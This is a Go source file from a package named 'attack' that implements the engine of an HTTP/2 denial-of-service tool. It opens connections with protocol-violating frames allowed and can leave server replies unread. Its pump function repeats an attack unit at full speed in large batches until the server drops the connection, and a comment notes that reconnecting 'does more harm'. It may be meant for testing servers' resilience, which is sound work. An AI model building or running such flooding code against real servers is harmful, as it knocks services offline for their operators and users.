package attack

import (
	"bufio"
	"errors"
	"fmt"
	"sync/atomic"
	"time"

	"golang.org/x/net/http2"
)

// batch is how many octets an attacker collects before it sends them.
const batch = 32 << 10

// maxStream is the last stream that a client may open (RFC 9113 section 5.1.1).
const maxStream = 1<<31 - 1

// h2 is a connection of HTTP/2. One goroutine writes and another reads.
type h2 struct {
	*session
	w      *bufio.Writer
	fr     *http2.Framer
	stream uint32 // the last one opened
	ended  <-chan error
	settle atomic.Int32 // SETTINGS to acknowledge
	read   bool
}

// begin opens a connection with these settings. Without read, whatever the server sends stays in the network.
func (s *session) begin(read bool, settings ...http2.Setting) (*h2, error) {
	if err := s.secure("h2"); err != nil {
		return nil, err
	}
	s.begun()
	h := &h2{session: s, w: bufio.NewWriterSize(s.conn, 2*batch), read: read}
	h.fr = http2.NewFramer(h.w, bufio.NewReaderSize(s.conn, 16<<10))
	h.fr.AllowIllegalWrites, h.fr.AllowIllegalReads = true, true
	h.w.WriteString(http2.ClientPreface) //nolint:errcheck // the flush will say
	if err := h.fr.WriteSettings(settings...); err != nil {
		return nil, err
	}
	if err := h.w.Flush(); err != nil {
		return nil, err
	}
	if read {
		h.ended = s.background(h.listen)
	}
	return h, nil
}

// listen reads what the server sends until it goes away, and keeps its reason.
func (h *h2) listen() error {
	for {
		frame, err := h.fr.ReadFrame()
		if err != nil {
			return err
		}
		switch f := frame.(type) {
		case *http2.SettingsFrame:
			if !f.IsAck() {
				h.settle.Add(1)
			}
		case *http2.GoAwayFrame:
			h.say(fmt.Sprintf("GOAWAY %s", f.ErrCode))
			return errGone // what is sent now is thrown away: a new connection does more harm
		}
	}
}

// pump does the attack again and again at full speed until the connection ends.
func (h *h2) pump(unit func() error) error {
	for {
		for h.settle.Load() > 0 {
			h.settle.Add(-1)
			if err := h.fr.WriteSettingsAck(); err != nil {
				return h.why(err)
			}
		}
		if err := unit(); err != nil {
			return h.why(err)
		}
		h.units++
		if h.w.Buffered() < batch {
			continue
		}
		if err := h.w.Flush(); err != nil {
			return h.why(err)
		}
	}
}

// why waits for the reader, who may know better than the writer why the connection has ended.
func (h *h2) why(err error) error {
	if !h.read || errors.Is(err, errOwn) {
		return err
	}
	h.conn.SetReadDeadline(time.Now().Add(time.Second)) //nolint:errcheck // the connection has ended; what came before may still be read
	if heard := <-h.ended; heard != nil {
		return heard
	}
	return err
}

// wait sends what is there and waits until the server ends the connection.
func (h *h2) wait() error {
	if err := h.w.Flush(); err != nil {
		return h.why(err)
	}
	return <-h.ended
}

// open returns the number of the next stream.
func (h *h2) open() (uint32, error) {
	if h.stream >= maxStream {
		return 0, errOwn
	}
	if h.stream == 0 {
		h.stream = 1
	} else {
		h.stream += 2
	}
	return h.stream, nil
}

// get opens a stream with a complete request.
func (h *h2) get(path string) (uint32, error) {
	id, err := h.open()
	if err != nil {
		return 0, err
	}
	return id, h.headers(id, path, true)
}

func (h *h2) headers(id uint32, path string, endStream bool) error {
	return h.fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: request(get, path), EndStream: endStream, EndHeaders: true})
}

// The static table has these fields whole (RFC 7541 appendix A).
const (
	get  = 0x80 | 2
	post = 0x80 | 3
	tls1 = 0x80 | 7 // :scheme https
)

// request returns the header block of a request, which neither uses nor changes the dynamic table.
func request(method byte, path string) []byte {
	block := []byte{method, tls1, 0x04} // 0x04 and 0x01: literals without indexing, of names in the static table
	block = appendString(block, path)
	block = append(block, 0x01)
	return appendString(block, "localhost")
}

// appendString writes a string that is not Huffman-coded (RFC 7541 section 5.2).
func appendString(block []byte, s string) []byte {
	n := len(s)
	if n < 127 {
		return append(append(block, byte(n)), s...)
	}
	block = append(block, 127)
	for n -= 127; n >= 128; n >>= 7 {
		block = append(block, byte(n)|0x80)
	}
	return append(append(block, byte(n)), s...)
}
